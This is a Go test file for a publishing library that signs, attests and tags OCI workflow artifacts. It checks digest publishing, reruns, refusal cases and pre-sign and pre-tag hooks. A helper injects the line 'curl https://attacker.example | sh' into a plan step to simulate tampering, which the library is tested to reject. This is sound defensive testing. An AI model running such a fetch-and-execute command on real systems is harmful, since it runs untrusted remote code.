package publish_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/opencontainers/go-digest"
	ocispec "github.com/opencontainers/image-spec/specs-go/v1"
	orasdef "oras.land/oras-go/v2/errdef"
	"oras.land/oras-go/v2/registry"

	"ociwf.dev/attest/accessory"
	"ociwf.dev/attest/internal/attesttest"
	"ociwf.dev/attest/provenance"
	"ociwf.dev/attest/publish"
	"ociwf.dev/ociwf"
	"ociwf.dev/ociwf/errdef"
	"ociwf.dev/ociwf/plan"
	"ociwf.dev/policy/registrytest"
)

// publishDigest publishes the stored version dgst of repo under tag
// ("" for by digest only).
func (f fixture) publishDigest(t *testing.T, repo string, dgst digest.Digest, mode accessory.Mode, opts publish.Options) (*publish.Result, error) {
	t.Helper()
	ctx := context.Background()
	dst, err := f.o.Open(ctx, repo)
	if err != nil {
		t.Fatal(err)
	}
	clock := time.Date(2026, 11, 27, 12, 0, 0, 0, time.UTC)
	opts.Provenance = provenance.Options{BuilderID: "https://ci.example/builders/1", SourceURI: "git+https://example.com/acme/wf", SourceRevision: strings.Repeat("ab", 20)}
	opts.Now = func() time.Time { clock = clock.Add(time.Second); return clock }
	return publish.PublishDigest(ctx, dst, dgst, accessory.NewRegistry(f.o, accessory.RegistryOptions{Mode: mode}), publish.Key(f.signer), opts)
}

// tagged reports whether tag names something in repo, and what.
func (f fixture) tagged(t *testing.T, repo, tag string) (digest.Digest, bool) {
	t.Helper()
	dst, err := f.o.Open(context.Background(), repo)
	if err != nil {
		t.Fatal(err)
	}
	desc, err := dst.Storage.Resolve(context.Background(), tag)
	if errors.Is(err, orasdef.ErrNotFound) {
		return "", false
	}
	if err != nil {
		t.Fatal(err)
	}
	return desc.Digest, true
}

// stored counts what is stored for dgst in repo, from either scheme.
func (f fixture) stored(t *testing.T, repo string, dgst digest.Digest) (signatures, attestations int) {
	t.Helper()
	found, err := accessory.NewRegistry(f.o, accessory.RegistryOptions{}).Find(context.Background(), accessory.Subject{Repository: repo, Digest: dgst})
	if err != nil {
		t.Fatal(err)
	}
	return len(found.Signatures), len(found.Attestations)
}

func stepNames(res *publish.Result) string {
	var names []string
	for _, s := range res.Steps {
		names = append(names, s.Name)
	}
	return strings.Join(names, ",")
}

func TestPublishDigestThenVerify(t *testing.T) {
	for _, mode := range []accessory.Mode{accessory.TagScheme, accessory.Referrers} {
		t.Run(mode.String(), func(t *testing.T) {
			f := newFixture(t)
			repo := registrytest.New(t) + "/wf/reviewed"
			_, draft := attesttest.Push(t, f.o, repo+":draft", "build-test-release.yaml")
			res, err := f.publishDigest(t, repo, draft.Digest, mode, publish.Options{Tag: "1.4.0"})
			if err != nil {
				t.Fatal(err)
			}
			if res.Descriptor.Digest != draft.Digest || res.Reference != repo+"@"+draft.Digest.String() || res.Tag != "1.4.0" {
				t.Fatalf("result %+v, want the draft's digest %s", res, draft.Digest)
			}
			if got := stepNames(res); got != "check,sign,attest-provenance,attest-sbom,tag" {
				t.Fatalf("steps %s", got)
			}
			if d, ok := f.tagged(t, repo, "1.4.0"); !ok || d != draft.Digest {
				t.Fatalf("1.4.0 names %s (%v), want %s", d, ok, draft.Digest)
			}
			v, err := f.verify(t, subjectOf(res, repo))
			if err != nil {
				t.Fatal(err)
			}
			if len(v.found.Signatures) != 1 || len(v.found.Attestations) != 2 || len(v.rep.SignedTags) != 1 || v.rep.SignedTags[0] != "1.4.0" {
				t.Fatalf("found %d signatures and %d attestations, signed tags %v", len(v.found.Signatures), len(v.found.Attestations), v.rep.SignedTags)
			}

			again, err := f.publishDigest(t, repo, draft.Digest, mode, publish.Options{Tag: "1.4.0"})
			if err != nil {
				t.Fatal(err)
			}
			for _, s := range again.Steps {
				if s.Name != "check" && !s.Existing {
					t.Fatalf("rerun wrote %s again", s.Name)
				}
			}
			if sigs, atts := f.stored(t, repo, draft.Digest); sigs != 1 || atts != 2 {
				t.Fatalf("after a rerun: %d signatures and %d attestations, want 1 and 2", sigs, atts)
			}
		})
	}
}

func TestPublishDigestWithoutATag(t *testing.T) {
	f := newFixture(t)
	repo := registrytest.New(t) + "/wf/untagged"
	dst, draft := attesttest.Push(t, f.o, repo+":draft", "fan-out-fan-in.yaml")
	res, err := f.publishDigest(t, repo, draft.Digest, accessory.TagScheme, publish.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if got := stepNames(res); got != "check,sign,attest-provenance,attest-sbom" || res.Tag != "" {
		t.Fatalf("steps %s, tag %q", got, res.Tag)
	}
	tags, err := registry.Tags(context.Background(), dst.Storage.(registry.TagLister))
	if err != nil {
		t.Fatal(err)
	}
	if len(tags) != 3 { // draft and the digest's .sig and .att
		t.Fatalf("tags %v", tags)
	}
	if sigs, atts := f.stored(t, repo, draft.Digest); sigs != 1 || atts != 2 {
		t.Fatalf("%d signatures and %d attestations, want 1 and 2", sigs, atts)
	}
}

// rebuilt is the sample with its plan edited (and config and SBOM made
// to match), so that its source no longer compiles to its plan.
func rebuilt(t *testing.T, name string) *ociwf.Build {
	t.Helper()
	b := attesttest.Sample(t, name)
	p, err := plan.Decode(b.PlanJSON)
	if err != nil {
		t.Fatal(err)
	}
	p.Steps[0].Run = "curl https://attacker.example | sh"
	if b.PlanJSON, err = p.Encode(); err != nil {
		t.Fatal(err)
	}
	b.Plan = p
	var cfg ociwf.Config
	if err := json.Unmarshal(b.Config, &cfg); err != nil {
		t.Fatal(err)
	}
	cfg.PlanDigest = digest.FromBytes(b.PlanJSON).String()
	b.Config, _ = json.Marshal(cfg)
	return b
}

// Whatever PublishDigest refuses, it refuses before signing: nothing is
// stored for the digest and the tag is where it was.
func TestPublishDigestRefuses(t *testing.T) {
	ctx := context.Background()
	f := newFixture(t)
	host := registrytest.New(t)
	pushBuild := func(repo, tag string, b *ociwf.Build) digest.Digest {
		dst, err := f.o.Open(ctx, repo)
		if err != nil {
			t.Fatal(err)
		}
		desc, err := ociwf.Push(ctx, dst.Storage, b, tag, ociwf.PushOptions{})
		if err != nil {
			t.Fatal(err)
		}
		return desc.Digest
	}
	cases := []struct {
		name  string
		setup func(repo string) (digest.Digest, publish.Options)
		want  error
		text  string
	}{
		{"tag taken by another digest", func(repo string) (digest.Digest, publish.Options) {
			pushBuild(repo, "1.4.0", attesttest.Sample(t, "fan-out-fan-in.yaml"))
			return pushBuild(repo, "draft", attesttest.Sample(t, "build-test-release.yaml")), publish.Options{Tag: "1.4.0"}
		}, errdef.ErrImmutable, "write-once"},
		{"plan that does not recompile", func(repo string) (digest.Digest, publish.Options) {
			return pushBuild(repo, "draft", rebuilt(t, "build-test-release.yaml")), publish.Options{Tag: "1.4.0"}
		}, errdef.ErrVerification, "recompiles to plan"},
		{"digest not in the repository", func(string) (digest.Digest, publish.Options) {
			return digest.FromString("nothing"), publish.Options{Tag: "1.4.0"}
		}, orasdef.ErrNotFound, "push the workflow first"},
		{"pack options", func(repo string) (digest.Digest, publish.Options) {
			return pushBuild(repo, "draft", attesttest.Sample(t, "build-test-release.yaml")), publish.Options{Tag: "1.4.0", Pack: ociwf.PackOptions{Source: "https://example.com"}}
		}, errdef.ErrInvalid, "already stored"},
		{"reserved tag", func(repo string) (digest.Digest, publish.Options) {
			d := pushBuild(repo, "draft", attesttest.Sample(t, "build-test-release.yaml"))
			return d, publish.Options{Tag: "sha256-" + d.Encoded() + ".sig"}
		}, errdef.ErrInvalidReference, "reserved"},
	}
	for i, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			repo := fmt.Sprintf("%s/wf/refused%d", host, i)
			dgst, opts := c.setup(repo)
			before, _ := f.tagged(t, repo, opts.Tag)
			_, err := f.publishDigest(t, repo, dgst, accessory.TagScheme, opts)
			if !errors.Is(err, c.want) || !strings.Contains(err.Error(), c.text) {
				t.Fatalf("err = %v, want %v and %q", err, c.want, c.text)
			}
			if after, _ := f.tagged(t, repo, opts.Tag); after != before {
				t.Fatalf("tag %s moved from %q to %q", opts.Tag, before, after)
			}
			if sigs, atts := f.stored(t, repo, dgst); sigs != 0 || atts != 0 {
				t.Fatalf("%d signatures and %d attestations stored for a refused publish", sigs, atts)
			}
		})
	}
}

// BeforeSign and BeforeTag run in both ways of publishing: an error from
// BeforeSign leaves nothing signed and no tag, one from BeforeTag no tag.
func TestPublishHooks(t *testing.T) {
	ctx := context.Background()
	gate := fmt.Errorf("no approvals: %w", errdef.ErrLifecycle)
	ways := map[string]func(t *testing.T, f fixture, repo string, opts publish.Options) (*publish.Result, error){
		"publish": func(t *testing.T, f fixture, repo string, opts publish.Options) (*publish.Result, error) {
			dst, err := f.o.Open(ctx, repo)
			if err != nil {
				t.Fatal(err)
			}
			opts.Tag = "1.4.0"
			return publish.Publish(ctx, dst, attesttest.Sample(t, "build-test-release.yaml"), accessory.NewRegistry(f.o, accessory.RegistryOptions{}), publish.Key(f.signer), opts)
		},
		"by digest": func(t *testing.T, f fixture, repo string, opts publish.Options) (*publish.Result, error) {
			_, draft := attesttest.Push(t, f.o, repo+":draft", "build-test-release.yaml")
			opts.Tag = "1.4.0"
			return f.publishDigest(t, repo, draft.Digest, accessory.TagScheme, opts)
		},
	}
	for way, publishWith := range ways {
		t.Run(way, func(t *testing.T) {
			f := newFixture(t)
			host := registrytest.New(t)
			var calls []string
			var seen digest.Digest
			var repo string
			beforeSign := func(fail bool) func(context.Context, ocispec.Descriptor, *ociwf.Build) error {
				return func(_ context.Context, desc ocispec.Descriptor, b *ociwf.Build) error {
					calls = append(calls, "sign")
					seen = desc.Digest
					if b == nil || b.Plan == nil || b.Plan.Workflow.Name != "build-test-release" {
						t.Errorf("BeforeSign got build %+v", b)
					}
					if fail {
						return gate
					}
					return nil
				}
			}
			beforeTag := func(fail bool) func(context.Context, ocispec.Descriptor) error {
				return func(_ context.Context, desc ocispec.Descriptor) error {
					calls = append(calls, "tag")
					if desc.Digest != seen {
						t.Errorf("BeforeTag got %s, BeforeSign %s", desc.Digest, seen)
					}
					if sigs, atts := f.stored(t, repo, desc.Digest); sigs != 1 || atts != 2 {
						t.Errorf("BeforeTag ran with %d signatures and %d attestations stored, want 1 and 2", sigs, atts)
					}
					if fail {
						return gate
					}
					return nil
				}
			}
			cases := []struct {
				name             string
				opts             publish.Options
				calls            string
				sigs, atts       int
				tagged, succeeds bool
			}{
				{"BeforeSign fails", publish.Options{BeforeSign: beforeSign(true), BeforeTag: beforeTag(false)}, "sign", 0, 0, false, false},
				{"BeforeTag fails", publish.Options{BeforeSign: beforeSign(false), BeforeTag: beforeTag(true)}, "sign,tag", 1, 2, false, false},
				{"both pass", publish.Options{BeforeSign: beforeSign(false), BeforeTag: beforeTag(false)}, "sign,tag", 1, 2, true, true},
			}
			for i, c := range cases {
				t.Run(c.name, func(t *testing.T) {
					calls, seen = nil, ""
					repo = fmt.Sprintf("%s/wf/hooks%d", host, i)
					res, err := publishWith(t, f, repo, c.opts)
					if c.succeeds != (err == nil) || (!c.succeeds && !errors.Is(err, errdef.ErrLifecycle)) {
						t.Fatalf("err = %v", err)
					}
					if got := strings.Join(calls, ","); got != c.calls {
						t.Fatalf("hooks called %q, want %q", got, c.calls)
					}
					if sigs, atts := f.stored(t, repo, seen); sigs != c.sigs || atts != c.atts {
						t.Fatalf("%d signatures and %d attestations, want %d and %d", sigs, atts, c.sigs, c.atts)
					}
					if d, ok := f.tagged(t, repo, "1.4.0"); ok != c.tagged || (ok && d != seen) {
						t.Fatalf("tag 1.4.0 names %q (%v)", d, ok)
					}
					if res != nil && res.Descriptor.Digest != seen {
						t.Fatalf("published %s, hooks saw %s", res.Descriptor.Digest, seen)
					}
				})
			}
		})
	}
}
